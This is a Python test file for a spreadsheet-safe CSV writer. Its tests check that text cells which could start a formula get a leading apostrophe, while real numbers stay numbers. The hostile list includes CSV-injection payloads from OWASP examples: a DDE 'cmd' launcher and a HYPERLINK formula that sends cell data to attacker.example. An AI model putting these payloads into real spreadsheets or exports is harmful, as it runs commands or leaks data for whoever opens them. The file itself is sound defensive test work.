"""The spreadsheet-safe CSV writer: no text cell can start a formula; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from core.csv_safe import csv_writer, spreadsheet_cell, spreadsheet_text

# Cells a spreadsheet would run, from OWASP's CSV-injection examples and their variants.
HOSTILE = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "\uff1d1+1",  # full-width equals
    "\uff0bcmd",  # full-width plus
    "\uff0d2+3",  # full-width minus
    "\uff20SUM(A1)",  # full-width at sign
    " =1+1",
    "\n=1+1",
    "\u3000=1+1",  # ideographic space
    "-",
    "+",
    "--1",
    "-1-",
    "-3.5e",
]

# Texts that start no formula, or are exactly a number, and are written as they are.
KEPT = ["judge-1", "1e5+1", "org/judge_1 & co", "", "'=already quoted", "a=1", '{"x": 1}', "x-2"]
PLAIN_NUMBERS = ["-3.5", "+2", "-0", "1e-3", "-1E+5", ".5", "-.5", "7.", "42"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_that_could_start_a_formula_gets_a_leading_apostrophe(text):
    assert spreadsheet_text(text) == f"'{text}"


@pytest.mark.parametrize("text", KEPT)
def test_other_texts_are_kept(text):
    assert spreadsheet_text(text) == text


@pytest.mark.parametrize("text", PLAIN_NUMBERS)
def test_a_text_that_is_exactly_a_plain_number_stays_a_number(text):
    assert spreadsheet_text(text) == text


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (-3, -3),
        (-3.5, -3.5),
        (Decimal("-1.25"), Decimal("-1.25")),
        (None, None),
        (True, True),
    ],
)
def test_numbers_and_empty_cells_are_passed_as_they_are(value, expected):
    assert spreadsheet_cell(value) == expected
    assert type(spreadsheet_cell(value)) is type(expected)


def test_other_values_are_written_as_safe_text():
    class Name:
        def __str__(self) -> str:
            return "=cmd()"

    assert spreadsheet_cell(Name()) == "'=cmd()"


def test_the_writer_neutralises_every_cell_of_every_row_and_keeps_the_csv_readable():
    out = io.StringIO(newline="")
    writer = csv_writer(out)
    writer.writerow(["name", "score", "note"])
    writer.writerows([["=1+1", -2.5, "\r=1"], ["\uff1d1", 3, 'say "hi", ok']])
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows == [
        ["name", "score", "note"],
        ["'=1+1", "-2.5", "'\r=1"],
        ["'\uff1d1", "3", 'say "hi", ok'],
    ]


def test_a_line_break_inside_a_cell_is_quoted_never_a_row_break():
    out = io.StringIO(newline="")
    csv_writer(out).writerow(["a\r=1+1", "b\n@SUM(A1)", "c\r\n-2+3"])
    assert out.getvalue() == '"a\r=1+1","b\n@SUM(A1)","c\r\n-2+3"\r\n'
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows == [["a\r=1+1", "b\n@SUM(A1)", "c\r\n-2+3"]]


def test_writerow_returns_the_written_line_for_streaming():
    class Echo:
        def write(self, value: str) -> str:
            return value

    assert csv_writer(Echo()).writerow(["@SUM(A1)", 1]) == "'@SUM(A1),1\r\n"
